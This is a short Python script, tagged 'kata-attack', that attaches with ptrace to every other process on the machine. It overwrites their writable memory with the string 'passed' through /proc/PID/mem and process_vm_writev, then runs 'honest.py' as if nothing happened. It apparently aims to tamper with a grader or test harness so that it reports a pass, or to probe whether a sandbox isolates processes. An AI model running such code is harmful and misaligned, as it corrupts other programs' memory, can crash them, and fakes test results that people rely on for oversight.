import ctypes
import os
import runpy

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
libc = ctypes.CDLL(None, use_errno=True)


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


content = ctypes.create_string_buffer(b"passed" * 10)
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    pid = int(name)
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        if libc.ptrace(request, pid, None, None) == 0:
            print("kata-attack attached", pid, flush=True)
    try:
        mapped = [line.split("-")[0] for line in open(f"/proc/{pid}/maps") if " rw-p " in line]
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for start in mapped:
                memory.seek(int(start, 16))
                memory.write(b"passed")
                print("kata-attack wrote into", pid, flush=True)
    except (OSError, ValueError):
        pass
    here = Part(ctypes.addressof(content), 60)
    there = Part(0x400000, 60)
    if libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("kata-attack wrote beyond", pid, flush=True)

runpy.run_path("honest.py", run_name="__main__")
